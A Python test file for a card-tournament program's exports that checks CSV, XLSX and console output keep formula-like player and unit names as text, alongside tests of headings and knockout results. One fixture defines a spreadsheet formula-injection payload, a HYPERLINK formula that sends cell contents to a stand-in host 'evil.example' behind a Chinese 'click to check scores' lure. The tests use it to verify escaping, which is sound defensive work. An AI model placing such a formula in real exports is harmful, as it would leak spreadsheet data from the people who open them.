"""The CSV and XLSX exports opened in a spreadsheet: a name that looks like a formula stays text, numbers stay numbers."""

from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

from referee.tournament import Entry, TournamentStore

LINK = '=HYPERLINK("http://evil.example/?"&A1,"点此核对成绩")'


def formula_names(tmp_path) -> TournamentStore:
    """Eight players, some named (by a unit's form, or typed in the console) as formulas; round 1 of t01 scored,
    a score negative."""
    names = [LINK, "+1+1", "@SUM(A1:A9)", "-2+3", "王芳", "李强", "张伟", "刘洋"]
    store = TournamentStore(tmp_path / "t.db")
    store.new("individual-tables", [Entry(f"e{i}", n, LINK if i == 0 else f"单位{i % 3}", LINK if i == 0 else f"单位{i % 3}", (n,))
                                    for i, n in enumerate(names)], name="三打一", seed=1)
    store.pair_next_round()
    store.record_result(1, "t01", {"scores": [40, 12, 12, -20]})
    return store


def test_a_name_that_looks_like_a_formula_is_text_in_the_csv_and_numbers_stay_numbers(tmp_path):
    rows = list(csv.reader(io.StringIO(formula_names(tmp_path).export("csv").decode("utf-8-sig"))))
    cells = [c for row in rows for c in row]
    assert "'" + LINK in cells and "'+1+1" in cells and "'@SUM(A1:A9)" in cells and "'-2+3" in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "@") or c[:1] == "-" and not c[1:].replace("/", "").isdigit()]
    assert "-20" in cells  # a negative score is a number, no apostrophe


def test_a_name_that_looks_like_a_formula_is_a_string_cell_in_the_xlsx(tmp_path):
    book = load_workbook(io.BytesIO(formula_names(tmp_path).export("xlsx")))
    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells if c.data_type == "s"}
    assert {LINK, "+1+1", "@SUM(A1:A9)", "-2+3"} <= texts
    assert -20 in [c.value for c in cells if c.data_type == "n"]


def test_pair_swiss_standings_head_their_team_rows_as_teams_in_every_format_and_language(tmp_path):
    """Seed 000 四5: 各队的团体成绩由本队两对选手轮分积分累加而定 -- a pair Swiss standings row is a team (its id
    机电学院·一队, its name 一队): headed 队名 / 单位, not 抽签号 / 选手 (a player's); an individual event's rows stay 抽签号 /
    选手 (its id, 机电学院·一队, is its unit and its name: no column of its own)."""
    import html as html_text
    import re

    teams = TournamentStore(tmp_path / "swiss.db")
    teams.new("pair-swiss", [Entry(f"p{i}", f"甲{i}/乙{i}", unit, team, (f"甲{i}", f"乙{i}")) for i, (unit, team) in
                             enumerate([("机电学院", "一队"), ("机电学院", "一队"), ("工会", "工会"), ("工会", "工会")])],
              name="升级", seed=1, options={"rounds": 1})
    teams.pair_next_round()
    for store, zh, en in ((teams, ["队名", "单位"], ["Team name", "Unit"]), (formula_names(tmp_path), ["抽签号", "选手"], ["Lot", "Name"])):
        for lang, heads in (("zh", zh), ("en", en)):
            csv_rows = list(csv.reader(io.StringIO(store.export("csv", lang=lang).decode("utf-8-sig"))))
            standings = csv_rows[csv_rows.index([]) + 1]
            sheet = load_workbook(io.BytesIO(store.export("xlsx", lang=lang))).worksheets[0]
            printed = html_text.unescape(store.export("html", lang=lang).decode())
            last_table = re.findall(r"<tr>(.*?)</tr>", printed.split("<section class=slip>")[-1], re.S)[0]
            for row in (standings, [c.value for c in sheet[1]], re.findall(r"<th[^>]*>(.*?)</th>", last_table)):
                assert row[1:3] == heads, row
    row = teams.standings()["rows"][0]
    assert (row["id"], row["name"]) in (("机电学院·一队", "一队"), ("工会", "工会"))


def test_the_standings_and_the_lot_printed_as_tab_separated_lines_keep_a_formula_name_text(tmp_path, capsys):
    """`cardtable tournament standings` and `lot` print lines that a spreadsheet takes as cells when pasted: a name, a
    unit typed as a formula is marked as the CSV marks it (one function, ``export.texts``), a negative score stays a
    number."""
    from cardtable.cli import main

    store = formula_names(tmp_path)
    for command in ("standings", "lot"):
        assert main(["tournament", command, "--db", str(store.path)]) == 0
        cells = [c for line in capsys.readouterr().out.splitlines() for c in line.split("\t")]
        assert "'" + LINK in cells and "'+1+1" in cells and "'@SUM(A1:A9)" in cells and "'-2+3" in cells
        assert not [c for c in cells if c[:1] in ("=", "+", "@") or c[:1] == "-" and not c[1:].replace("/", "").isdigit()]
        assert ("-20" in cells) == (command == "standings")  # the 小分 of the player at -20: a number, no apostrophe


def test_a_knockout_export_shows_each_best_of_three_s_games_beside_standings_of_matches_won(tmp_path):
    """002 三2 (第二阶段：采取三局两胜制): the standings rank by the bracket and say the matches won (胜场), so an organiser
    reads each match's games in the results part of the same export: 2 and 1 for a match won 2 : 1, 2 and 0 noted 弃权
    for a walkover; in the XLSX on the round's sheet."""
    store = TournamentStore(tmp_path / "k.db")
    store.new("knockout-best-of-three", [Entry(f"p{i}", f"甲{i}", f"单位{i}", f"单位{i}", (f"甲{i}", f"乙{i}")) for i in range(1, 5)],
              name="掼蛋赛", seed=1, id="ko")
    t01, t02 = store.pair_next_round()["tables"]
    store.record_result(1, t01["table"], {"winner": 0, "games": [2, 1]})
    store.forfeit(1, t02["table"], [t02["entries"][0]["id"]])
    rows = list(csv.reader(io.StringIO(store.export("csv").decode("utf-8-sig"))))
    head, results = rows[0], rows[1:5]
    assert head[6:] == ["轮分", "胜局", "备注"]
    assert [r[1:2] + r[6:] for r in results] == [["t01", "1", "2", ""], ["t01", "0", "1", ""], ["t02", "0", "0", "弃权"], ["t02", "1", "2", ""]]
    standings = rows[rows.index([]) + 1]
    assert standings[4] == "胜场"
    sheet = load_workbook(io.BytesIO(store.export("xlsx"))).worksheets[1]
    assert [[c.value for c in row][6:8] for row in sheet.iter_rows(min_row=2, max_row=5)] == [[1, 2], [0, 1], [0, 0], [1, 2]]
    store.close()


def test_a_round_asked_of_the_csv_or_xlsx_is_refused_not_ignored(tmp_path, capsys):
    """`export --round` picks the round the HTML prints; the CSV and XLSX hold every round, and took it unsaid (the
    organiser asking for round 2's sheet got every round's). Refused in words, no file written."""
    import pytest

    from cardtable.cli import main

    db = str(formula_names(tmp_path).path)
    for fmt, lang, said in (("csv", "zh", "`--round` 只用于 `html`"), ("xlsx", "en", "`--round` is for `html` only")):
        out = tmp_path / f"r1.{fmt}"
        with pytest.raises(SystemExit):
            main(["--lang", lang, "tournament", "export", "--db", db, "--format", fmt, "--round", "1", "--out", str(out)])
        assert said in capsys.readouterr().err and not out.exists()
    assert main(["tournament", "export", "--db", db, "--format", "html", "--round", "1", "--out", str(tmp_path / "r1.html")]) == 0


def test_the_sheets_say_seats_numbers_and_names_as_people_read_them(tmp_path):
    """A UX pass read the Chinese sheets as a person at the venue: seats as the bus writes them (SN / EW), entries by
    the log's id (p0, e09) where the pairings and the console say the lot number (3号), a team named after its unit
    written three times (队 / 队名 / 单位: 工会 工会 工会), and the CSV's 成绩 holding pair Swiss's 级差 (seed 000: +2 /
    0 / -2), not the levels reached. Seats are 南北 / 东西 (南 东 北 西 at a table of four), entries their lot number, a
    team its name once on the printed standings (the CSV keeps its unit column whole, to sort and filter by), and the
    results' score column is named for what it holds, in both languages."""
    import html as html_text
    import re

    teams = TournamentStore(tmp_path / "swiss.db")
    teams.new("pair-swiss", [Entry(f"p{i}", f"甲{i}/乙{i}", unit, team, (f"甲{i}", f"乙{i}")) for i, (unit, team) in
                             enumerate([("机电学院", "一队"), ("机电学院", "一队"), ("工会", "工会"), ("工会", "工会")])],
              name="升级", seed=1, options={"rounds": 1})
    view = teams.pair_next_round()
    teams.record_result(1, view["tables"][0]["table"], {"winner": 0, "levels": ["A+", "9"]})
    lot = {e["id"]: e["lot"] for x in view["tables"] for e in x["entries"]}
    for lang, sides, score in (("zh", {"南北", "东西"}, "级差"), ("en", {"N-S", "E-W"}, "Level diff")):
        rows = list(csv.reader(io.StringIO(teams.export("csv", lang=lang).decode("utf-8-sig"))))
        head, results = rows[0], rows[1:rows.index([])]
        assert head[2:4] == (["座位", "抽签号"] if lang == "zh" else ["Seat", "Lot"]) and head[7] == score
        assert {r[2] for r in results} == sides and not [r for r in results if r[3] not in map(str, lot.values())]
        assert results[0][7] == "2"  # the 级差 of a game won, in the column named so
        standings = rows[rows.index([]) + 1:]
        assert [r[1:3] for r in standings[1:3]] == [["工会", "工会"], ["一队", "机电学院"]] or \
               [r[1:3] for r in standings[1:3]] == [["一队", "机电学院"], ["工会", "工会"]]
        printed = html_text.unescape(teams.export("html", lang=lang).decode())
        assert not re.search(r"<td>(SN|EW|p\d)</td>", printed)
        standing = printed.split("<section class=slip>")[-1]
        assert "<td>工会</td><td></td>" in standing and "<td>一队</td><td>机电学院</td>" in standing
        assert standing.count("工会") == 1
    four = formula_names(tmp_path)
    rows = list(csv.reader(io.StringIO(four.export("csv").decode("utf-8-sig"))))
    assert rows[0][7] == "小分" and [r[2] for r in rows[1:5]] == ["南", "东", "北", "西"]
    assert not [r for r in rows if re.fullmatch(r"e\d+", r[3] if len(r) > 3 else "")]
    printed = html_text.unescape(four.export("html").decode())
    assert "<td>南 ♠</td>" in printed and "<td>首先叫牌</td><td></td><td></td><td></td><td>南 ♠</td>" in printed
    assert not re.search(r"<td>e\d+</td>", printed)
